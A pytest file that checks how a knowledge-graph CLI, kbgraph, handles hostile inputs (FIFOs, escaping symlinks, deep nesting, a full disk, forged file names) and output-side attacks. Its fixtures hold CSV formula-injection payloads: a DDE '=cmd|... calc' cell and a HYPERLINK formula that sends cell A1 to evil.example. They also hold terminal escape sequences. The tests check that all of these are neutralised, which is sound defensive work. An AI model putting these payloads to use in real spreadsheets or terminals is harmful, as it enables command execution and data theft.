"""Issue 19 items 4–6 and issue 16's builds, on real processes: ``kbgraph build`` over
hostile folders (special files, links out of the corpus, absurd nesting and sizes, an
unreadable subfolder, a full disk), output that would attack its reader (spreadsheet
formulas in CSV, escape sequences in file names and article text), read-only commands
beside a writer, and an article's identity whatever the spelling of its path.

Every hostile input must give ONE line on stderr naming the file, exit status 2, no
traceback, and the good articles loaded.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from robust_builder import start_build

GOOD = ("title: Rakor Kampung KB\ndate: 2019-11-26\nurl: https://example.org/berita/rakor\n"
        "publisher: Warta Contoh\n---\n"
        "PONTIANAK - Perwakilan BKKBN Provinsi Kalimantan Barat menggelar Rapat Koordinasi "
        "Kampung KB di Pontianak, Selasa (26/11/2019).\n")
GOOD_URL = "https://example.org/berita/rakor"
SECOND = ("url: https://example.org/berita/jambi\n---\nBKKBN Provinsi Jambi menggelar Rakerda "
          "KKBPK di Jambi, kata Rudi Hakim.\n")
#: A file name that tried to forge a line of its own and colour the terminal.
FORGED = "evil\nkbgraph: ok\x1b[31m.txt"


def kbgraph(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None,
            prefix: tuple[str, ...] = (), timeout: float = 180) -> subprocess.CompletedProcess:
    return subprocess.run([*prefix, sys.executable, "-m", "kbgraph", *args], capture_output=True, text=True,
                          check=False, timeout=timeout, cwd=cwd, env={**os.environ, **(env or {})})


def lines_naming(stderr: str, name: str) -> list[str]:
    return [line for line in stderr.splitlines() if name in line]


def article_rows(store: Path) -> list[dict[str, str]]:
    done = kbgraph("query", "articles", "--format", "csv", "--store", str(store))
    assert done.returncode == 0, done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout)))


# --------------------------------------------------------------------------- hostile folder

@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-inputs")
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "good.txt").write_text(GOOD, encoding="utf-8")
    os.mkfifo(corpus / "pipe.txt")  # a reader that opens it blocks until a writer comes
    (corpus / "zero.txt").symlink_to("/dev/zero")  # reads forever
    outside = root / "outside.txt"
    outside.write_text(SECOND, encoding="utf-8")
    (corpus / "escape.txt").symlink_to(outside)  # a file outside the corpus
    (corpus / "nowhere.txt").symlink_to(root / "missing.txt")
    (corpus / "deep.json").write_text("[" * 1000 + "]" * 1000, encoding="utf-8")
    (corpus / "deep.jsonl").write_text('{"text": ' + "[" * 1000 + "]" * 1000 + "}\n", encoding="utf-8")
    (corpus / "deep.html").write_text(
        "<html><body>" + "<div>" * 100_000 + "<p>" + "BKKBN menggelar rapat koordinasi. " * 10 + "</p>"
        + "</div>" * 100_000 + "</body></html>", encoding="utf-8")
    (corpus / "long.txt").write_text(  # over the article limit, far under the file limit
        "title: Panjang\n---\n" + "".join(f"Kalimat nomor {i} tentang Kampung KB.\n" for i in range(40_000)),
        encoding="utf-8")
    (corpus / FORGED).write_text("", encoding="utf-8")
    (corpus / "README.md").write_text("# a corpus\n", encoding="utf-8")
    (corpus / "gold").mkdir()
    (corpus / "gold" / "good.json").write_text('{"file": "good.txt", "entities": []}', encoding="utf-8")
    store = root / "store"
    started = time.monotonic()
    done = kbgraph("build", str(corpus), "--store", str(store), "--workers", "1", timeout=240)
    return corpus, store, done, time.monotonic() - started


EXPECTED = {
    "pipe.txt": "is a FIFO (named pipe), not a regular file; not read",
    "zero.txt": "is a symbolic link to /dev/zero, outside the folder; not read",
    "escape.txt": "outside the folder; not read",
    "nowhere.txt": "is a symbolic link that leads nowhere; not read",
    "deep.json": "JSON nested too deeply",
    "deep.jsonl": "line 1: JSON nested too deeply",
    "deep.html": "elements nested more than 255 deep, more than the HTML parser reads",
    "long.txt": "the article text is 1,",  # … characters, more than the limit of 200,000
    "good.json": "the object: no text field (text, body or content)",
}


def test_hostile_files_are_one_line_each_exit_2_and_the_good_article_loads(hostile_build):
    corpus, store, done, seconds = hostile_build
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert seconds < 240  # the FIFO did not block the build
    for name, reason in EXPECTED.items():
        named = lines_naming(done.stderr, f"/{name}:")
        assert len(named) == 1, (name, done.stderr)
        assert named[0].startswith("kbgraph: skipped: ") and reason in named[0], named[0]
    assert "more than the limit of 200,000" in lines_naming(done.stderr, "/long.txt:")[0]
    readme = lines_naming(done.stderr, "README.md")
    assert readme == [f"kbgraph: warning: {corpus}/README.md: skipped, a README file is not an article"]
    assert "1 article: 1 added" in done.stdout
    rows = article_rows(store)
    assert [r["url"] for r in rows] == [GOOD_URL]  # /etc-like files outside the corpus are not articles


def test_a_forged_file_name_cannot_print_a_line_of_its_own(hostile_build):
    _, _, done, _ = hostile_build
    assert "\x1b" not in done.stderr
    assert not any(line.startswith("kbgraph: ok") for line in done.stderr.splitlines())
    assert lines_naming(done.stderr, "evil\\nkbgraph: ok\\x1b[31m.txt: is empty")


def test_the_bundled_metadata_fields_reach_the_store(hostile_build):
    _, store, _, _ = hostile_build
    (row,) = article_rows(store)
    assert (row["title"], row["published"], row["url"]) == ("Rakor Kampung KB", "2019-11-26", GOOD_URL)
    assert row["publisher"]  # the publisher entity named "Warta Contoh"


def test_a_fifo_or_device_named_on_the_command_line_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    done = kbgraph("build", str(tmp_path / "pipe.txt"), "/dev/zero", str(tmp_path / "good.txt"),
                   "--store", str(tmp_path / "store"), timeout=120)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert len(lines_naming(done.stderr, "pipe.txt: is a FIFO")) == 1
    assert "1 article: 1 added" in done.stdout


# --------------------------------------------------------------------------- excludes, identity

def test_exclude_leaves_out_answer_files_and_each_skip_reason_is_said_once(tmp_path):
    corpus = tmp_path / "corpus"
    (corpus / "gold").mkdir(parents=True)
    (corpus / "a.txt").write_text(GOOD, encoding="utf-8")
    (corpus / "gold" / "a.json").write_text('{"file": "a.txt"}', encoding="utf-8")
    (corpus / "README.md").write_text("# corpus\n", encoding="utf-8")
    plain = kbgraph("build", str(corpus), "--store", str(tmp_path / "s1"))
    assert plain.returncode == 2
    assert len(lines_naming(plain.stderr, "README.md")) == 1
    assert len(lines_naming(plain.stderr, "a.json")) == 1
    excluded = kbgraph("build", str(corpus), "--store", str(tmp_path / "s2"), "--exclude", "gold/*",
                       "--exclude", "*.md")
    assert excluded.returncode == 0, excluded.stderr
    assert excluded.stderr == ""
    assert "1 article: 1 added" in excluded.stdout


def test_the_same_folder_by_relative_then_absolute_path_is_unchanged(tmp_path):
    corpus = tmp_path / "texts"
    corpus.mkdir()
    (corpus / "a.txt").write_text(GOOD, encoding="utf-8")
    (corpus / "b.txt").write_text(SECOND.replace("url: https://example.org/berita/jambi\n", "title: x\n"),
                                  encoding="utf-8")  # no URL: its id is the hash of its text
    (corpus / "c.jsonl").write_text('{"text": "BKKBN Provinsi Bali menggelar advokasi KKBPK di Denpasar."}\n',
                                    encoding="utf-8")
    store = str(tmp_path / "store")
    first = kbgraph("build", "texts", "--store", store, cwd=tmp_path)
    assert first.returncode == 0 and "3 added" in first.stdout, first.stderr
    for spelling in (str(corpus), "./texts/", f"{corpus}/../texts"):
        again = kbgraph("build", spelling, "--store", store, cwd=tmp_path)
        assert again.returncode == 0, again.stderr
        assert "0 added, 0 updated, 3 unchanged" in again.stdout, (spelling, again.stdout)
    forced = kbgraph("build", str(corpus), "--store", store, "--prune", "--force", cwd=tmp_path)
    assert "0 added, 3 updated, 0 unchanged, 0 skipped, 0 pruned" in forced.stdout, forced.stdout
    assert len(article_rows(Path(store))) == 3


# --------------------------------------------------------------------------- unreadable folder

def _without_root_powers() -> tuple[str, ...] | None:
    """A command prefix under which file permissions apply to this process, or None."""
    if os.geteuid() != 0:
        return ()
    if shutil.which("setpriv"):
        probe = subprocess.run(["setpriv", "--bounding-set=-dac_override,-dac_read_search", "true"],
                               capture_output=True, check=False)
        if probe.returncode == 0:
            return ("setpriv", "--bounding-set=-dac_override,-dac_read_search")
    return None


def test_an_unreadable_subfolder_is_one_line_and_prune_keeps_its_articles(tmp_path):
    prefix = _without_root_powers()
    if prefix is None:
        pytest.skip("running as root without setpriv: permissions cannot be taken away")
    corpus = tmp_path / "corpus"
    locked = corpus / "locked"
    locked.mkdir(parents=True)
    (corpus / "a.txt").write_text(GOOD, encoding="utf-8")
    (locked / "b.txt").write_text(SECOND, encoding="utf-8")
    store = tmp_path / "store"
    assert kbgraph("build", str(corpus), "--store", str(store)).returncode == 0
    locked.chmod(0)
    try:
        done = kbgraph("build", str(corpus), "--store", str(store), "--prune", prefix=prefix)
    finally:
        locked.chmod(0o755)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    named = lines_naming(done.stderr, "locked")
    assert len(named) == 1 and "folder cannot be read (Permission denied)" in named[0], done.stderr
    assert "0 pruned" in done.stdout
    assert sorted(r["url"] for r in article_rows(store)) == ["https://example.org/berita/jambi", GOOD_URL]


# --------------------------------------------------------------------------- full disk

@pytest.fixture
def small_disk(tmp_path):
    """A 900 KB tmpfs (root only): the store fills it while loading the ontology."""
    mount = tmp_path / "disk"
    mount.mkdir()
    if os.geteuid() != 0 or not shutil.which("mount"):
        pytest.skip("mounting a small tmpfs needs root")
    made = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=900k", "tmpfs", str(mount)],
                          capture_output=True, check=False)
    if made.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {made.stderr.decode(errors='replace').strip()}")
    yield mount
    subprocess.run(["umount", str(mount)], check=False)


def test_a_full_disk_is_one_error_line_without_trace_or_leftovers(tmp_path, small_disk):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(GOOD, encoding="utf-8")
    store = small_disk / "store"
    done = kbgraph("build", str(corpus), "--store", str(store), timeout=120)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("kbgraph: error:")]
    assert len(errors) == 1 and "No space left on device" in errors[0], done.stderr
    assert not list(store.glob("bulk-*.sst"))


def test_a_bulk_file_left_by_a_killed_load_is_removed_by_the_next_writer(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(GOOD, encoding="utf-8")
    store = tmp_path / "store"
    assert kbgraph("build", str(corpus), "--store", str(store)).returncode == 0
    leftover = store / "bulk-123456789.sst"
    leftover.write_bytes(b"\0" * 4096)
    assert kbgraph("stats", "--store", str(store)).returncode == 0
    assert leftover.exists()  # a reader leaves the writer's files alone
    again = kbgraph("build", str(corpus), "--store", str(store))
    assert again.returncode == 0, again.stderr
    assert not leftover.exists()


# --------------------------------------------------------------------------- output

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("formula")
    (root / "a.txt").write_text(
        f"title: {FORMULA_TITLE}\ndate: 2020-02-13\nurl: https://example.org/berita/formula\n"
        f"publisher: @SUM(1+1)\n---\nBKKBN Provinsi Jambi menggelar Rakerda KKBPK di Jambi, kata Rudi Hakim.\n",
        encoding="utf-8")
    (root / "b.txt").write_text(
        "title: -2+3 \x1b]0;pwned\x07\nurl: https://example.org/berita/escape\n---\n"
        "BKKBN Provinsi Bali menggelar advokasi KKBPK di Denpasar.\n", encoding="utf-8")
    store = root / "store"
    done = kbgraph("build", str(root), "--store", str(store))
    assert done.returncode == 0, done.stderr
    return store


def test_query_csv_neutralises_formulas_and_keeps_numbers(formula_store):
    rows = article_rows(formula_store)
    by_url = {r["url"]: r for r in rows}
    assert by_url["https://example.org/berita/formula"]["title"] == "'" + FORMULA_TITLE
    assert by_url["https://example.org/berita/escape"]["title"].startswith("'-2+3 ")
    assert by_url["https://example.org/berita/formula"]["published"] == "2020-02-13"
    done = kbgraph("query", 'SELECT ?n ?s ?t WHERE { VALUES (?n ?s ?t) { (-5 "-5" "@x") } }',
                   "--format", "csv", "--store", str(formula_store))
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[1] == "-5,-5,'@x"


def test_query_table_shows_escape_sequences_instead_of_obeying_them(formula_store):
    done = kbgraph("query", "articles", "--store", str(formula_store))
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout
    assert "\\x1b]0;pwned\\x07" in done.stdout


def _hostile_network_store(path: Path) -> None:
    from kbgraph.graph.store import open_store
    from kbgraph.graph.store.terms import ntriples_of
    from rdflib import Graph

    g = Graph()
    g.parse(data="""
        @prefix kb: <https://w3id.org/kbgraph/ontology#> .
        @prefix kbid: <https://w3id.org/kbgraph/id/> .
        @prefix org: <http://www.w3.org/ns/org#> .
        @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
        @prefix schema: <http://schema.org/> .
        kbid:article\\/x a schema:NewsArticle ; schema:mentions kbid:org\\/evil , kbid:org\\/good .
        kbid:org\\/evil a kb:RegionalAgency , org:Organization ;
            rdfs:label "=cmd|' /C calc'!A0"@id ; kb:abbreviation "+SUM(1)" .
        kbid:org\\/good a kb:RegionalAgency , org:Organization ; rdfs:label "Dinas Baik"@id ;
            org:subOrganizationOf kbid:org\\/evil .
    """, format="turtle")
    from kbgraph.ontology.namespaces import article_graph

    with open_store(path) as store:
        store.write({article_graph("x"): ntriples_of(g)})


def test_csv_and_neo4j_exports_neutralise_formulas_and_keep_typed_columns(tmp_path):
    store = tmp_path / "store"
    _hostile_network_store(store)
    for fmt in ("csv", "neo4j"):
        done = kbgraph("export", "--format", fmt, "--out", str(tmp_path / fmt), "--store", str(store))
        assert done.returncode == 0, done.stderr
    nodes = list(csv.reader(io.StringIO((tmp_path / "csv" / "nodes.csv").read_text(encoding="utf-8"))))
    neo = list(csv.reader(io.StringIO((tmp_path / "neo4j" / "nodes.csv").read_text(encoding="utf-8"))))
    for table in (nodes, neo):
        cells = [c for row in table[1:] for c in row]
        assert "'=cmd|' /C calc'!A0" in cells and "=cmd|' /C calc'!A0" not in cells
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    header = neo[0]
    assert header[:2] == ["id:ID", ":LABEL"] and "label:string" in header
    typed = [i for i, h in enumerate(header) if h.endswith((":int", ":long"))]
    assert typed and all(row[i].isdigit() for row in neo[1:] for i in typed)  # numbers stay numbers


# --------------------------------------------------------------------------- read-only commands

def test_read_only_commands_work_while_a_writer_holds_the_store(formula_store, tmp_path):
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import sys, time\nfrom kbgraph.graph.store import open_store\n"
         f"s = open_store({str(formula_store)!r})\nprint('locked', flush=True)\n"
         "sys.stdin.read()\ns.close()\n"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        (tmp_path / "c.txt").write_text(GOOD, encoding="utf-8")
        refused = kbgraph("build", str(tmp_path), "--store", str(formula_store))
        assert refused.returncode == 2 and "in use by another process" in refused.stderr
        store = ("--store", str(formula_store))
        for args in (("stats",), ("query", "articles"), ("export", "--format", "ttl", "--out", str(tmp_path / "g.ttl")),
                     ("check",)):
            done = kbgraph(*args, *store)
            assert done.returncode in ((0, 1) if args == ("check",) else (0,)), (args, done.stderr)
            assert "in use" not in done.stderr and "Traceback" not in done.stderr
        two = [subprocess.Popen([sys.executable, "-m", "kbgraph", "viz", "--out", str(tmp_path / f"v{i}.html"),
                                 *store], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
               for i in range(2)]
        for p in two:
            out, err = p.communicate(timeout=180)
            assert p.returncode == 0, err
            assert out.startswith("wrote ")
    finally:
        holder.communicate("", timeout=60)


@pytest.mark.slow
def test_stats_viz_and_export_answer_while_a_real_build_writes(tmp_path):
    """Not a lock holder this time: a build in progress, with its compactions and bulk
    loads (the read-only open retries a table file compacted away under it)."""
    corpus = tmp_path / "corpus"
    subprocess.run([sys.executable, str(Path(__file__).resolve().parents[2] / "benchmarks" / "generate.py"),
                    "--n", "300", "--out", str(corpus), "--format", "txt"], check=True, capture_output=True,
                   timeout=60)
    store = tmp_path / "store"
    builder = start_build(corpus, store)
    commands = [("stats",), ("viz", "--out", str(tmp_path / "v.html")),
                ("export", "--format", "nt", "--out", str(tmp_path / "g.nt"))]
    answered: list[tuple[str, int]] = []  # every read run while the build was running
    try:
        deadline = time.monotonic() + 240
        while builder.poll() is None and time.monotonic() < deadline:
            if not (store / "CURRENT").exists():
                time.sleep(0.1)
                continue
            if not answered:  # viz needs an entity to draw: wait for the first article
                ask = kbgraph("query", "ASK { ?a a schema:NewsArticle }", "--store", str(store))
                if ask.stdout.strip() != "true":
                    time.sleep(0.2)
                    continue
            args = commands[len(answered) % len(commands)]
            done = kbgraph(*args, "--store", str(store))
            assert "in use" not in done.stderr and "Traceback" not in done.stderr, (args, done.stderr)
            answered.append((args[0], done.returncode))
        out, err = builder.communicate(timeout=240)
    finally:
        if builder.poll() is None:
            builder.kill()
    assert builder.returncode == 0, err
    assert len(answered) >= 2 and all(code == 0 for _, code in answered), answered
